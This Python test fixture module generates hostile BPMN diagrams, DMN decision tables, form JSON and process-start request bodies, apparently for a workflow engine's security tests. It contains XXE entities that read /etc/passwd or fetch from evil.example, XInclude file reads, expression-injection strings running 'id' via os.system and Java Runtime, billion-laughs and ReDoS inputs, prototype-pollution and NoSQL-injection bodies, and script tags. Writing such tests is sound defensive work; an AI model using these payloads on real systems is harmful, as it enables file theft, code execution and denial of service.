"""Diagrams, decision tables, forms and calls made to do harm, for the ways in that programs use."""

import json
from collections.abc import Iterator

from tests.attacks.hostile_files import entities
from tests.web import sample_files

Sent = tuple[str, bytes]
"""A file's name and what is in it."""

_ROOT = '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">'

EXPRESSIONS = (
    "__import__('os').system('id')",
    "().__class__.__bases__[0].__subclasses__()",
    "open('/etc/passwd').read()",
    "(lambda: 1)()",
    "9**9**9**9",
    '"a" * 10**10',
    "[x for x in range(10**9)]",
    "for x in 1..999999999 return x",
    "for a in 1..9999, b in 1..9999, c in 1..9999 return a",
    'matches("' + "a" * 40 + 'b", "(a+)+$")',
    'replace("' + "a" * 60 + '", "(a|aa)+$", "x")',
    'matches("x", "' + "(" * 150 + '")',
    "(" * 1500 + "1" + ")" * 400,
    "not(" * 300 + "true" + ")" * 300,
    "if true then " * 150 + "1",
    "{a: " * 200 + "1" + "}" * 200,
    "1" + "+1" * 990,
    "string join(for x in 1..100000 return string(x))",
    "complete." + "a." * 900 + "b",
    "1" * 1990,
    "${execution.getVariable('x')}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    'duration("P999999999999Y")',
    'date("99999-99-99")',
)


def diagrams() -> Iterator[Sent]:
    """Files that are diagrams by their names."""
    good = sample_files.process()
    yield "laughs.bpmn", entities().encode()
    yield (
        "outside.bpmn",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + _ROOT.encode() + b"&e;</definitions>",
    )
    yield "parameter.bpmn", b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]>' + good
    yield "quadratic.bpmn", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 20_000}</x>'.encode()
    yield "utf16.bpmn", entities().encode("utf-16")
    yield "utf7.bpmn", b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x+AD4-'
    yield "deep.bpmn", (_ROOT + "<process>" * 50_000).encode()
    yield "deep_and_closed.bpmn", (_ROOT + "<a>" * 240 + "</a>" * 240 + "</definitions>").encode()
    yield "wide.bpmn", (_ROOT + "<process/>" * 60_000 + "</definitions>").encode()
    yield "attribute.bpmn", (_ROOT + f'<process id="{"x" * 1_500_000}"/></definitions>').encode()
    yield (
        "attributes.bpmn",
        (_ROOT + "<a " + " ".join(f'a{n}="1"' for n in range(60_000)) + "/></definitions>").encode(),
    )
    yield "names.bpmn", (_ROOT + "".join(f'<a xmlns:n{n}="u{n}">' for n in range(200)) + "</definitions>").encode()
    yield "large.bpmn", _ROOT.encode() + b" " * 3_000_000
    yield "comment.bpmn", (_ROOT + "<!--" + "-" * 100_000).encode()
    yield (
        "included.bpmn",
        good.replace(
            b"</bpmn:process>",
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></bpmn:process>',
        ),
    )
    yield "script.bpmn", good.replace(
        b"</bpmn:process>", b"<bpmn:scriptTask id='s' scriptFormat='python'><bpmn:script>import os</bpmn:script>"
        b"</bpmn:scriptTask></bpmn:process>",
    )  # fmt: skip
    yield (
        "listener.bpmn",
        good.replace(
            b"<bpmn:extensionElements>",
            b'<bpmn:extensionElements><camunda:executionListener class="java.lang.Runtime" event="start"/>',
            1,
        ),
    )
    yield "markup.bpmn", good.replace(b'name="Check the referral"', b'name="&lt;script&gt;zzmark()&lt;/script&gt;"')
    yield "nothing.bpmn", b""
    yield "nul.bpmn", good[:200] + b"\0" + good[200:]
    for number, text in enumerate(EXPRESSIONS):
        yield f"expression{number}.bpmn", with_condition(text)


def with_condition(text: str) -> bytes:
    """The sample process with a condition of these words."""
    words = text.replace("&", "&amp;").replace("<", "&lt;").encode()
    before = sample_files.process()
    start = before.index(b"tFormalExpression", before.index(b'<bpmn:sequenceFlow id="f3"'))
    begins = before.index(b">", start) + 1
    return before[:begins] + b"= " + words + before[before.index(b"<", begins) :]


def tables() -> Iterator[Sent]:
    """Files that are decision tables by their names."""
    head = '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="x">'
    yield "laughs.dmn", entities().encode()
    yield "rules.dmn", (head + '<decision id="t" name="t"><decisionTable>' + "<rule/>" * 40_000).encode()
    for number, text in enumerate(EXPRESSIONS):
        words = text.replace("&", "&amp;").replace("<", "&lt;")
        yield (
            f"expression{number}.dmn",
            f'{head}<decision id="t{number}" name="t"><decisionTable id="tt"><input id="i"><inputExpression id="ie">'
            f'<text>{words}</text></inputExpression></input><output id="o" name="o"/><rule id="r"><inputEntry id="e">'
            f'<text>{words}</text></inputEntry><outputEntry id="oe"><text>{words}</text></outputEntry></rule>'
            "</decisionTable></decision></definitions>".encode(),
        )


def forms() -> Iterator[Sent]:
    """Files that are forms by their names."""
    yield "deep.form", b"[" * 100_000
    yield "closed.form", b'{"components":' * 900 + b"1" + b"}" * 900
    inside: list[object] = []
    for _ in range(200):
        inside = [{"type": "group", "key": "g", "components": inside}]
    yield "groups.form", json.dumps({"type": "default", "id": "g", "components": inside}).encode()
    many = [{"type": "textfield", "key": f"k{n}", "label": "x", "id": f"i{n}"} for n in range(20_000)]
    yield "many.form", json.dumps({"type": "default", "id": "m", "components": many}).encode()
    for number, text in enumerate(EXPRESSIONS):
        field = {
            "type": "textfield",
            "key": "k",
            "id": "i",
            "label": f"= {text}",
            "conditional": {"hide": f"= {text}"},
            "validate": {"pattern": text[:180]},
            "properties": {"error_required": "<script>zzmark()</script>"},
        }
        yield (
            f"expression{number}.form",
            json.dumps({"type": "default", "id": f"e{number}", "components": [field]}).encode(),
        )
    yield "nothing.form", b""
    yield "number.form", b"1e400"
    yield "surrogate.form", b'{"id": "\\ud800", "type": "default", "components": []}'


CALLS = (
    b"", b"[]", b"null", b"1", b"{", b"[" * 100_000, b'{"variables":' * 5_000, b'{"businessKey": 1e999}',
    b'{"variables": {"__proto__": {"value": 1}}}', b'{"variables": {"a": {"value": "\\u0000", "type": "String"}}}',
    b'{"variables": {"a": {"value": "\\ud800", "type": "String"}}}',
    b'{"variables": {"a": {"value": "[[[[[[[[[[[[[[[[[", "type": "Json"}}}',
    b'{"variables": {"a": {"value": ' + b"9" * 4_000 + b', "type": "Long"}}}',
    b'{"variables": {"partnership": {"value": {"$ne": null}}}}',
    b'{"businessKey": "' + b"k" * 500_000 + b'"}',
    b'{"variables": {"summary": {"value": "' + b"s" * 900_000 + b'"}}}',
    b"\xff\xfe\x00", b"<x/>",
)  # fmt: skip
"""Bodies of a call that starts a process."""
